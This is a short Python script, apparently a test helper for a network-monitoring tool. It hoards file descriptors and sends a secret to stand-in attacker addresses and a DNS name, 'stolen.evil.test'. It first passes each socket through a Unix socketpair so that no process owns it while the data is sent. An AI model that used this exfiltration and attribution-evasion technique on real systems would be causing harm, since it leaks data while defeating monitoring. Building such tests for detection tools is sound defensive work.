"""hoard COUNT: holds that many descriptors, and sends by sockets in nobody's hands."""

count = int(sys.argv[1])
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
for _ in range(count):
    os.open("/dev/null", os.O_RDONLY)
print("hoarding", flush=True)
port = 1024
while True:
    # On its way to nobody, a socket lives on, and no process holds it.
    here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    for target in ((ATTACKER[V4], port), (ATTACKER[V6], port), (RESOLVER, 53)):
        littering = socket.socket(FAMILY[":" in target[0]], socket.SOCK_DGRAM)
        socket.send_fds(here, [b"x"], [littering.fileno()])
        littering.setblocking(False)
        data = query("stolen.evil.test") if target[1] == 53 else SECRET
        try:
            littering.sendto(data, target)
        except OSError:
            pass
        littering.close()
    port = 1024 + (port + 7) % 60000
    time.sleep(0.5)
    here.close()
    there.close()
